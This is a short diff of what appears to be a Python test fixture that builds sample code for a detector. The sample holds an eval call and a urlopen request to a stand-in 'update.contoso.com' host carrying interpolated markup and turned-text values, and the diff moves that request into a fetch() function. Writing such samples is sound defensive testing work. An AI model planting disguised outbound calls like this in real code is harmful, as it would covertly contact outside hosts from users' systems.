@@ -21,7 +21,8 @@ CODE = f"""import socket
 import urllib.request
 
 eval("1")
-urllib.request.urlopen('http://update.contoso.com/{MARKUP.replace("'", '"')}{TURNED}') # {LONG}
+def fetch():
+    urllib.request.urlopen('http://update.contoso.com/{MARKUP.replace("'", '"')}{TURNED}') # {LONG}
 """
 
 TESTS = f"""import pytest
